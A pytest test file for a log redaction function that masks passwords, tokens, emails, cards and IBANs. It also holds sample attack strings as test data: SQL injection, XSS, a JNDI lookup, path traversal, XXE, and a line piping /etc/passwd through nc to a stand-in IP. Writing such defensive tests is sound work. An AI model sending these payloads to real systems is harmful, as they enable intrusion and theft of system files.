"""Redaction: secrets and personal data go, attacks stay readable, nothing acts."""

import random
import string
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.languages.logs.redaction import redact

_CHANCE = random.Random(7)  # noqa: S311 - made-up values
_WORD = "zq" + "7" * 3 + "kfu"  # made up


def made(length: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "7a9" + "".join(_CHANCE.choices(alphabet, k=length - 3))


def card() -> str:
    digits = [4, *(_CHANCE.randrange(10) for _ in range(14))]
    total = sum(sum(divmod(2 * one, 10)) if place % 2 == 0 else one for place, one in enumerate(digits))
    return "".join(map(str, [*digits, -total % 10]))


def iban() -> str:
    account = "".join(str(_CHANCE.randrange(10)) for _ in range(18))
    check = 98 - int(account + "131400") % 97
    return f"DE{check:02d}{account}"


@pytest.mark.parametrize(
    ("template", "shown"),
    [
        ("GET /a?password={}&x=1", "GET /a?password=<password>&x=1"),
        ("passwd={} y", "passwd=<password> y"),
        ("pwd={};a", "pwd=<password>;a"),
        ("user[password]={}&b", "user[password]=<password>&b"),
        ("user%5Bpassword%5D={}&b", "user%5Bpassword%5D=<password>&b"),
        ("userPassword={} z", "userPassword=<password> z"),
        ('{{"password":"{}","user":"bob"}}', '{"password":"<password>","user":"bob"}'),
        ('{{"password": "{} and more", "u": 1}}', '{"password": "<password>", "u": 1}'),
        ("%22password%22%3A%22{}%22%7D", "%22password%22%3A%22<password>%22%7D"),
        ("next=%2F%3Fpassword%3D{}%26a%3Db", "next=%2F%3Fpassword%3D<password>%26a%3Db"),
        ("password: {}", "password: <password>"),
        ("postgres://shop:{}@db/shop", "postgres://shop:<password>@db/shop"),
        ("token={}&x=1", "token=<token>&x=1"),
        ("access_token={}&x=1", "access_token=<token>&x=1"),
        ("api_key={} x", "api_key=<token> x"),
        ("apikey={} x", "apikey=<token> x"),
        ("secret={} x", "secret=<token> x"),
        ("client_secret={} x", "client_secret=<token> x"),
        ("PHPSESSID={}; theme=dark", "PHPSESSID=<token>; theme=dark"),
        ("/a;jsessionid={}?x=1", "/a;jsessionid=<token>?x=1"),
        ("Authorization: Bearer {} x", "Authorization: Bearer <token> x"),
        ("Authorization: Basic {} x", "Authorization: Basic <token> x"),
        ("authorization={}", "authorization=<token>"),
        ("curl -H bearer {}", "curl -H bearer <token>"),
    ],
)
def test_values_by_the_name_before_them(template, shown):
    for value in (_WORD, made(40)):
        assert redact(template.format(value).encode()) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("eyJ" + made(30) + "." + made(40) + "." + made(30), "<token>"),
        ("/a/" + made(40) + "/b", "/a/<token>/b"),
        ("/a/" + made(32, "0123456789abcdef"), "/a/<token>"),
        ("x " + "gh" + "p_" + made(36) + " y", "x <token> y"),
        ("x " + "AK" + "IA" + made(16, string.ascii_uppercase).upper() + " y", "x <token> y"),
        ("mail bob.smith+x" + "@shop.example ok", "mail <email> ok"),
        ("u=bob%40" + "shop.example&x", "u=<email>&x"),
        ("card " + card() + " ok", "card <card> ok"),
        ("iban " + iban() + " ok", "iban <iban> ok"),
    ],
)
def test_values_by_their_shape(text, shown):
    assert redact(text.encode()) == shown


def test_cards_and_ibans_in_groups_and_only_with_their_check_digits():
    number, account = card(), iban()
    spaced = " ".join(number[place : place + 4] for place in range(0, 16, 4))
    assert redact(spaced.encode()) == "<card>"
    assert redact(spaced.replace(" ", "-").encode()) == "<card>"
    assert redact(" ".join(account[place : place + 4] for place in range(0, 22, 4)).encode()) == "<iban>"
    wrong = number[:-1] + str((int(number[-1]) + 1) % 10)
    assert redact(wrong.encode()) == wrong
    assert redact(b"1696938936123") == "1696938936123"


@pytest.mark.parametrize(
    "text",
    [
        "/login?user=bob&password=' OR '1'='1",
        "q=1 UNION ALL SELECT password,2 FROM users-- -",
        "q=%27%20OR%201%3D1--%20",
        "q=<script>alert(document.cookie)</script>",
        "${jndi:ldap://203.0.113.9:1389/a}",
        "/../../../../etc/passwd",
        "/..%2f..%2f..%2fetc%2fpasswd",
        "q={{7*7}}",
        "q=;cat /etc/passwd|nc 203.0.113.9 4444",
        "q=0x7162717671,NULL,CONCAT(0x716a6b7871,0x4d6d6e)",
        "password=<script>alert(1)</script>",
        "token=../../etc/passwd",
        '{"password":{"$ne":null}}',
        "password[$ne]=1",
        "/get-the-most-out-of-your-new-phone-2024-edition",
        "the author of tokens and passes: none",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "*)(uid=*))(|(uid=*",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
    ],
)
def test_attacks_and_prose_stay_readable(text):
    if text.startswith("password[$ne]"):
        # The operator shows the attack; the value goes.
        assert redact(text.encode()) == "password[$ne]=1"
    else:
        assert redact(text.encode()) == text.replace("passes: none", "passes: none")


def test_a_value_goes_up_to_where_the_attack_begins():
    assert redact(f"password={_WORD}' or 1=1--".encode()) == "password=<password>' or 1=1--"
    assert redact(f"pwd={_WORD}%27+or+1%3D1".encode()) == "pwd=<password>%27+or+1%3D1"


def test_what_acts_is_shown():
    assert redact(b"\x1b[31m\r\n\t\0 \xe2\x80\xae \xff \x7f") == r"\x1b[31m\r\n\t\x00 \u202e \xff \x7f"
    assert redact("\U000e0041 \u200b \u2066".encode()) == r"\U000e0041 \u200b \u2066"


@given(st.binary(max_size=600), st.integers(0, 300))
def test_the_answer_is_short_and_seen(data, limit):
    shown = redact(data, limit)
    assert len(shown) <= limit
    assert shown.isprintable()


@given(
    st.text(string.ascii_letters + string.digits + "!#$*~^", min_size=4, max_size=40),
    st.sampled_from(["password", "token", "pwd", "api_key"]),
)
def test_no_value_survives_its_name(value, name):
    value = "Q7" + value
    assert value not in redact(f"/a?{name}={value}&b=1 x".encode())


def test_a_secret_cut_by_the_window_does_not_show():
    data = b"x" * 10 + b" " + b"a@b" * 1 + b" password=" + made(20_000).encode()
    assert redact(data, 200).startswith("xxxxxxxxxx a@b ")
    assert "7a9" not in redact(data, 200)


@pytest.mark.parametrize(
    "piece",
    [
        "a",
        "a.",
        "a@",
        'password="',
        "1 ",
        "eyJ",
        "a-",
        "A1",
        "'",
        "pass",
        "a.a.a.a@a.a.",
        "\\",
        "://",
        "://a",
        "DE12",
        "%40",
        "%27",
        "Bearer ",
        "token",
        "=",
        "a=",
        "1-",
        "[",
        '{"a":',
    ],
)
def test_time_is_linear(piece):
    def took(size: int) -> float:
        data = (piece * size)[:size].encode()
        began = time.process_time()
        redact(data, size)
        return time.process_time() - began

    small = min(took(20_000) for _ in range(3))
    assert min(took(160_000) for _ in range(2)) < 8 * small * 4 + 0.05
    began = time.process_time()
    redact((piece * 1_000_000).encode())
    assert time.process_time() - began < 0.2
